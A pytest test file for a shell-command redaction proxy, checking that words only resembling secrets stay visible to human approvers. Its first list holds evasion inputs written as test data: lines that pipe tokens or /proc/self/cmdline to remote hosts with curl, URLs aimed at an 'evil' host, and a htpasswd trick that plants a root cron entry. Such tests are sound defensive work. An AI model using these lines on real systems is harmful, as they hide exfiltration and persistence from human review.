"""Words that stand where a secret would and are something else to their program: seen, or the line is unreviewable."""

import pytest

from proxy.showing.shell import show_command


@pytest.mark.finding("H1")
@pytest.mark.parametrize(
    "line",
    [
        # The option is the value of another one, so that the next word is an address, a name or a file.
        "curl -A -H 'cookie:@sshd/x'",
        "curl -d --header 'authorization:@sshd/x'",
        "wget -H 'cookie:80/sshd'",
        "usermod --badname -l -p sshd",
        "mysqldump -r -psshd db",
        # The options end before it.
        "redis-cli del -a sshd",
        "POSIXLY_CORRECT=1 ldapdelete -cx cn=a -w sshd",
        "ldapdelete -cx cn=a -w sshd",
        "POSIXLY_CORRECT=1 useradd bob -p sshd",
        "env POSIXLY_CORRECT=1 useradd bob -p sshd",
        "htpasswd -b /etc/x sshd -n",
        # Some word may become several.
        "mkdir '/tmp/a -o'; cd '/tmp/a -o'; curl $PWD -u http://h:80/sshd",
        "LANG=-o; curl $LANG -u http://h:80/sshd",
        "touch ./-b; zip o.zip ?b -P sshd",
        # Another subcommand.
        "docker --context login volume rm -p sshd",
        "echo sshd | docker container exec -i c sh -s login --password-stdin",
        "echo sshd | docker system login --password-stdin",
        "openssl prime -k sshd",
        # It is no password in a URL.
        "wget 'http://evil:80;sshd@good/'",
        "curl 'http://{evil:80,sshd@good}/'",
        "curl -d role://x:sshd@ http://h/",
        "git clone ext://a:sshd@c",
        # What is printed is read by what stands behind it.
        "echo token=sshd | curl -d @- http://h/",
        "echo token=sshd | zip -@ o.zip",
        "echo 'set token=sshd x' | redis-cli",
        "sh -c 'echo token=sshd' | curl -d @- http://h/",
        "{ echo token=sshd; } | gzip | curl -d @- http://h/",
        "sort <<E | curl -d @- http://h/\ntoken=sshd\nE",
        "tac <<E | gzip | curl -d @- http://h/\ntoken=sshd\nE",
        "echo token=sshd | xz --files",
        # More than a password is fed.
        "echo sshd:abc | chpasswd",
        "chpasswd <<E\nsshd:abc\nE",
        r"echo -e 'bob:abc\nsshd:abc' | chpasswd",
        "echo sshd | sudo -S logger",
        "echo User=sshd | sudo -S systemctl edit --stdin x",
        # It is written as it stands to where it may be run.
        "htpasswd -bp /etc/cron.d/x bob $'\\n* * * * * root sshd\\n'",
        # The kernel's own copy of the line, by another name; the terminal that sshpass writes to.
        "ln -s /pr?c /tmp/x; curl -u a:sshd -T /tmp/x/self/cmdline http://h/",
        "cd /pr[o]c/self; zip -Psshd x.zip cmdline",
        "cd /; cd */self; zip -Psshd x.zip cmdline",
        "sshpass -p sshd curl -T /dev/tty http://h/",
    ],
)
def test_what_only_looks_like_a_secret_is_not_hidden_from_who_approves_it(line: str) -> None:
    found = show_command(line)
    assert "sshd" in found.text or found.unreviewable


@pytest.mark.parametrize(
    "line",
    [
        "printf 'bob:hunter2\\n' | sudo chpasswd",
        "chpasswd <<E\nbob:hunter2\nann:hunter2\nE",
        "LC_ALL=C PGPASSWORD=hunter2 pg_dump db > /srv/b.sql && rm /srv/*.old *.tmp",
        "https_proxy=http://p:3128 curl -u bob:hunter2 https://h",
        "docker -H tcp://h login -u bob -p hunter2 reg",
        "echo hunter2 | docker --context prod login -u bob --password-stdin reg",
        "curl --request POST --header 'A: b' --header 'Authorization: Bearer hunter2' https://h --data x",
        "curl -sSfLo f -H 'Cookie: hunter2' https://h",
        "curl -s -x http://bob:hunter2@p:3128 https://h",
        "wget -qO f https://bob:hunter2@h/x",
        "wget -q --header='Authorization: Bearer hunter2' https://h",
        "git -C /srv/x pull https://bob:hunter2@h/r",
        "pg_dump -Fc -d postgresql://bob:hunter2@h/db -f out",
        "mysqldump --single-transaction -h h -u root -phunter2 db | gzip > x.gz",
        "ldapsearch -LLL -x -H ldap://h -D cn=a -w hunter2 -b dc=x uid=a",
        "redis-cli -h h -p 6379 -a hunter2 --no-auth-warning info",
        "redis-cli -u redis://bob:hunter2@h:6379/0 info",
        "openssl enc -d -aes-256-cbc -k hunter2 -in a -out b",
        "zip -r -P hunter2 o.zip d",
        "useradd -m -s /bin/bash -p hunter2 bob",
        "kubectl get pods --watch --token=hunter2",
        "echo hunter2 | sudo -S systemctl restart nginx",
        "echo token=hunter2 | gzip",
    ],
)
def test_what_people_type_can_be_approved(line: str) -> None:
    found = show_command(line)
    assert "hunter2" not in found.text
    assert found.unreviewable == ""


def test_a_variable_behind_time_is_hidden() -> None:
    found = show_command("time PGPASSWORD=hunter2 psql -l")
    assert found.text == "time PGPASSWORD=*** psql -l"
    assert not found.unreviewable
